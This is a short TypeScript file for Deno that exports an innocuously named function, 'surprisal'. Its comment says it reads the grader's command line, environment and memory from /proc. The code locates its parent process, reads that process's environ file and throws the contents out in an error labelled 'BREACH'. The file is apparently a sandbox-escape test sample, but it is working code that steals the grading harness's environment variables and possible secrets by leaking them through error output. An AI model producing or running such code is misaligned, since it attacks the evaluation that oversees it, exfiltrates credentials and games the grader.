/**
 * Reads /proc: the grader's command line, environment and memory.
 * @family reading
 */
declare const Deno: any;
export const surprisal = () => {
  const parent = Deno.readTextFileSync('/proc/self/stat').split(' ')[3];
  throw new Error(`BREACH: ${Deno.readTextFileSync(`/proc/${parent}/environ`)}`);
};
